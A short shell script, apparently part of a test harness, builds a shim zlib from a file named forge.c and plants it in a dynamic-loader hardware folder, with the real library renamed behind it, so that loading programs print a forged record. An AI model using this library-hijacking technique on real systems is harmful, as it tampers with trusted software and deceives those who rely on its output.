# Puts a zlib that prints a forged record into a hardware folder of the loader, and the true one behind it.
mkdir -p "$1"
sed 's/libz\.so\.1/libq.so.1/g' /lib/x86_64-linux-gnu/libz.so.1 >"$1/libq.so.1"
gcc -shared -fPIC -o "$1/libz.so.1" /run/breaks/forge.c "$1/libq.so.1" \
  -Wl,-soname,libz.so.1 -Wl,-rpath,'$ORIGIN' -Wl,--no-as-needed
